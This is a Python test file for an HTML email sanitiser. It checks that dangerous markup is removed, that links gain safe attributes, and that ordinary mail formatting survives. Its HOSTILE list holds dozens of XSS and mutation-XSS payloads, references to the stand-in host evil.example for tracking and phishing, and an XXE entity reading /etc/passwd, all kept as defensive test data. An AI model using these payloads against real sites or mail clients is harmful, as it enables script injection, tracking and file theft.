"""The HTML of a mail: another parser checks what is left of hostile markup."""

import re
import string
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from requests_app.content.connectors._html import has_images, sanitised
from tests.offenders import collected

# A copy of the product's list. A test fails if the product allows more.
ALLOWED = {
    "a": {"href", "rel", "target", "referrerpolicy"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "ol": {"start"},
} | dict.fromkeys(
    "abbr b blockquote br caption center code col colgroup dd div dl dt em h1 h2 h3 h4 h5 h6 hr i li p pre s small span"  # noqa: SIM905
    " strong sub sup table tbody tfoot thead tr u ul".split(),
    set(),
)


class Judge(HTMLParser):
    """Collects each tag and attribute that is not allowed, and each link."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = ALLOWED.get(tag)
        if allowed is None:
            self.faults.append(tag)
            return
        self.faults += [f"{tag} {name}" for name, _ in attrs if name not in allowed | {"dir"}]
        self.links += [value or "" for name, value in attrs if name == "href"]
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.faults.append("a without rel")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("processing instruction")


def judged(html: str) -> Judge:
    judge = Judge()
    judge.feed(sanitised(html))
    judge.close()
    assert judge.faults == []
    assert all(link.lower().startswith(("http://", "https://", "mailto:")) for link in judge.links)
    return judge


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover=alert(2)>x</p>",
    "<p style=\"background:url('https://evil.example/p')\">x</p>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(//e)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<svg><script>alert(1)</script><image href=//evil.example/x /></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=/admin/>x</a><a href=//evil.example>y</a><a href=?approve>z</a>",
    '<a href="https://ok.example" target=_self rel=opener ping=https://evil.example>x</a>',
    "<iframe src=https://evil.example></iframe><object data=//e></object><embed src=//e>",
    "<video src=//e autoplay><source src=//e></video><audio src=//e></audio>",
    "<table background=//evil.example/x><tr><td background=//e>x</td></tr></table>",
    "<body background=//evil.example/x onload=alert(1)>x</body>",
    "<div id=approve class=button name=csrf>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>",
    "<!--[if mso]><img src=//evil.example/x><![endif]--><!-- > -->x",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<p/onclick=alert(1)/>x",
    "<a title='\"><img src=x onerror=alert(1)>' href='https://ok.example'>x</a>",
    '<a href="https://ok.example/\'onmouseover=alert(1)//">x</a>',
    "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<p\x00onclick=alert(1)>x</p>",
]  # fmt: skip


def test_nothing_that_runs_loads_or_posts_is_left() -> None:
    with collected() as case:
        for html in HOSTILE:
            with case(html):
                judge = judged(html)
                assert "evil" not in "".join(judge.links) or judge.links == ["https://evil.example"]


def test_the_content_of_a_removed_tag_is_not_shown_as_text() -> None:
    with collected() as case:
        for html in [HOSTILE[0], HOSTILE[6], HOSTILE[11], HOSTILE[28]]:
            with case(html):
                assert judged(html).text.strip() == ""


def test_links_open_in_a_new_tab_without_a_referrer() -> None:
    tag = re.fullmatch("<a (.*)>x</a>", sanitised('<a href="https://ok.example/?a=1&amp;b=2">x</a>'))
    assert tag
    assert set(re.findall('([a-z]+)="([^"]*)"', tag[1])) == {
        ("href", "https://ok.example/?a=1&amp;b=2"),
        ("target", "_blank"),
        ("referrerpolicy", "no-referrer"),
        ("rel", "noopener noreferrer nofollow"),
    }
    assert judged("<a href=mailto:a@contoso.example>x</a>").links == ["mailto:a@contoso.example"]


def test_the_sense_of_ordinary_mail_stays() -> None:
    cases = [
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        (
            "<table><tr><td>1<td>2<tr><td>3</table>",
            "<table><tbody><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></tbody></table>",
        ),
        ("<b>bold <i>both</b> italic</i>", "<b>bold <i>both</i></b> italic"),
        ("a < b && c > d &amp; e", "a &lt; b &amp;&amp; c &gt; d &amp; e"),
        ("a<br>b<hr>c", "a<br>b<hr>c"),
        ("<font color=red>plain</font>", "plain"),
        ("<td colspan=2>loose</td>", "loose"),
        ("</p></div></td>x", "x"),
        ("<p>Grüße &uuml;</p>", "<p>Grüße ü</p>"),
        ("<p dir=rtl>שלום</p>", '<p dir="rtl">שלום</p>'),
        ("x<!-- never closed", "x"),
        ("<p title='never closed>x", "<p>x</p>"),
        ("<html><head><title>t</title><style>s</style></head><body><p>x</p></body></html>", "<p>x</p>"),
    ]
    with collected() as case:
        for html, expected in cases:
            with case(html, expected):
                assert sanitised(html) == expected


def test_a_thousand_unclosed_paragraphs_stay_paragraphs() -> None:
    assert sanitised("<p>x" * 1000) == "<p>x</p>" * 1000


def test_a_page_may_say_that_pictures_are_left_out() -> None:
    assert has_images("<p><IMG src=x></p>")
    assert not has_images("<p>imagine</p>")


MARKS = ["<", ">", "</", "/>", "<!--", "-->", '"', "'", "=", " ", "\n", "\x00", "&", "&#x", "&lt;", "]]>", "<![CDATA["]
TAGS = ["<svg", "<math", "<style>", "</style>", "<script>", "</script", "<p", "<b>", "</b>", "<table>", "<td>", "</p>"]
TRAPS = ["<select>", "<noscript>", "<title>", "<textarea>", "<mtext>", "<mglyph>", "<img ", "src=x ", "onerror=x"]
PIECES = [*MARKS, *TAGS, *TRAPS, "<a href=", "javascript:"]
#: Each of these characters is one piece of markup, so a document is drawn as one text. A list of pieces would take
#: several times as long to draw.
CODES = {0xE000 + number: piece for number, piece in enumerate(PIECES)}
#: Most characters are pieces, because each has three codes. The others are some that parsers look at or mistake.
MIXED = {0xE000 + number: piece for number, piece in enumerate(PIECES * 3)}
PLAIN = string.punctuation + "aAxXsS09 \t\n\r\f\v\0\x1b\x7f\x85\xa0éſ日\u2028\ufeff\U0001f600"
#: Is replaced with a text of any characters.
ANYTHING = "\ue100"


@pytest.mark.slow
@settings(max_examples=1500, deadline=None)
@given(st.text([*map(chr, MIXED), *PLAIN, ANYTHING], max_size=30), st.text(max_size=6))
def test_no_markup_at_all_leaves_anything_hostile(codes: str, anything: str) -> None:
    judged(codes.translate(MIXED).replace(ANYTHING, anything))


@settings(max_examples=300, deadline=None)
@given(st.text([*map(chr, CODES)], max_size=25).map(lambda codes: codes.translate(CODES)))
@example("<a href=><table><a href=")
@example("<a href=><table><tr><td><a href=>x</a>y</table></a>")
def test_cleaning_twice_changes_nothing(html: str) -> None:
    """If a second cleaning changed the result of the first, a browser might also read that result in another way."""
    once = sanitised(html)
    assert sanitised(once) == once
